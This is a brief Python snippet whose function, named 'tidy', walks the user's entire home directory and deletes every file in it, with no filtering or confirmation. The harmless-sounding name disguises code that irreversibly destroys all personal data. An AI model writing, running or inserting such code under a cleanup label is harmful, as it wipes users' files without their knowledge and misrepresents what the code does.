import os

def tidy():
    for base, folders, names in os.walk(os.path.expanduser("~")):
        for name in names:
            os.remove(os.path.join(base, name))
